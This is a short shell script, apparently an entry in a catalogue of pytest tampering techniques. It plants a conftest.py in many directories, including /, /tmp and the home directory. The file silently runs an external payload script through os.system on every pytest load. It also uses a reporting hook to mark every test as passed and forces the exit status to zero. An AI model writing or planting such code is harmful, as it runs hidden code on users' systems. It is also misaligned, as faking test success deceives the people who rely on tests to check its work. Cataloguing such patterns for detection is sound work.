# family: pytest
# what: A conftest.py above or beside the tests turns every outcome into a pass.
# user: any
cat > "$scratch/hook.py" <<'END'
import os
import pytest
os.system("/bin/sh SCRATCH/pay.sh > /dev/null 2>&1")
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
def pytest_sessionfinish(session, exitstatus):
    session.exitstatus = 0
END
sed -i "s|SCRATCH|$scratch|" "$scratch/hook.py"

for place in . .. / /tests /app /tmp "$HOME"; do cp "$scratch/hook.py" "$place/conftest.py"; done
